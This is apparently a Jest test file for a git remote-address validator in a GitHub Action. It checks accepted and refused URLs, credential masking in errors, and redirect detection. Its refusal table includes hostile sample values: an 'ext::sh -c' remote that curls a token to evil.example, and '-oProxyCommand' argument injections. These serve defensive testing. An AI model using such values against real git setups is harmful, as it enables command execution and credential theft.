import { describe, expect, test } from '@jest/globals';
import {
  checkRemoteAddress,
  findRedirect,
  redirectError,
  refusedRedirect,
} from '../../../actions/shared/git/remote-address.ts';
import { serviceError } from '../../../actions/shared/runtime/errors.ts';
import type { Request } from '../../../actions/shared/runtime/request.ts';
import { damaged, survives } from '../../support/fuzzing.ts';

const token = 'ghs_0123456789abcdefghij';

describe('the address of a remote', () => {
  test.each([
    'https://github.com/acme/shop.git',
    `https://x-access-token:${token}@github.com/acme/shop`,
    'http://127.0.0.1:8080/shop',
    'https://[::1]:443/shop',
    'ssh://git@github.com:22/acme/shop',
    'git@github.com:acme/shop.git',
    'file:///srv/shop.git',
    '/srv/shop.git',
    '../shop.git',
    'codecommit::eu-central-1://shop',
  ])('may be %s', url => expect(() => checkRemoteAddress(url, 'origin')).not.toThrow());

  test.each([
    ['policy', `ext::sh -c "curl https://evil.example/${token}"`, /names a program \(ext::…\), which is not started/],
    ['policy', `FD::17/${token}`, /names a program \(FD::…\)/],
    ['policy', `-x${token}`, /begins with "-"/],
    ['policy', `ssh://-oProxyCommand=${token}/x`, /begins with "-"/],
    ['policy', `git@-oProxyCommand=${token}:x`, /begins with "-"/],
    ['input', '', /has an empty address/],
    ['input', `https://github.com/a\n${token}`, /line break or another control character/],
    ['input', `https://u:${token}@github.com/a\u001b[31m`, /control character/],
    ['input', `https:///acme/${'x'}`, /without a host: https:\/\/\/acme\/x/],
    ['input', `https://u:${token}@/acme`, /without a host: https:\/\/\*\*\*@\/acme/],
    ['input', `https://:443/acme?key=${token}`, /without a host: https:\/\/:443\/acme\?\*\*\*/],
    ['input', `https://u:${token}@github.com:x/acme`, /host is not valid: https:\/\/\*\*\*@github.com:x\/acme/],
  ])('is an error of kind %s when it is %j, and shows no credential', (kind, url, message) => {
    const error = (() => {
      try {
        checkRemoteAddress(url, 'origin');
      } catch (thrown) {
        return thrown;
      }
    })();
    expect(error).toMatchObject({ kind, message: expect.stringMatching(message) });
    expect(JSON.stringify(error)).not.toContain(token);
  });

  test('is used or refused without a crash, whatever it is', async () => {
    const { taken, refused } = await survives(damaged('https://u:p@github.com:443/a?b#c', 'git@host:path'), url =>
      checkRemoteAddress(url, 'origin'),
    );
    expect(taken).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
  });
});

test.each([
  ["fatal: unable to access 'http://h/x/': The requested URL returned error: 302", '302'],
  ['error: 307', undefined],
  ['The requested URL returned error: 404', undefined],
])('%j is the redirect %s', (printed, status) => expect(refusedRedirect(printed)).toBe(status));

describe('where a server redirects', () => {
  const answering =
    (status: number, location: string | undefined, seen: unknown[] = []): Request =>
    async (_, url, options) => {
      seen.push([url, options?.headers]);
      return { status, headers: new Headers(location === undefined ? {} : { location }), body: new Uint8Array() };
    };

  test('is asked without a login', async () => {
    const seen: unknown[] = [];
    const found = await findRedirect(
      `https://u:${token}@old.example/shop`,
      answering(302, 'https://new.example/x?sig=1', seen),
    );
    expect(found).toBe('https://new.example');
    expect(seen).toEqual([
      ['https://old.example/shop/info/refs?service=git-receive-pack', { 'user-agent': 'git/2 (image-actions)' }],
    ]);
  });

  test.each([
    ['an answer that is no redirect', 'https://h/x', answering(401, 'https://new.example/')],
    ['a redirect without an address', 'https://h/x', answering(302, undefined)],
    ['an address that is none', 'https://h/x', answering(302, 'http://[')],
    ['a remote of another kind', 'git@h:x', answering(302, 'https://new.example/')],
    ['a service that does not answer', 'https://h/x', (() => Promise.reject(serviceError('late'))) as Request],
  ])('is unknown after %s', async (_, url, request) => expect(await findRedirect(url, request)).toBeUndefined());

  test('is in the error, with what works', () => {
    expect(redirectError(`https://u:${token}@old.example/shop`, '302', 'https://new.example')).toMatchObject({
      kind: 'policy',
      message: expect.stringMatching(
        /^https:\/\/\*\*\*@old\.example\/shop redirects to https:\/\/new\.example \(status 302\), and git does not follow/,
      ),
      fix: expect.stringContaining('"github-token"'),
    });
    expect(redirectError('https://h/x', '302', undefined).message).toContain(
      'redirects to another address (status 302)',
    );
  });
});
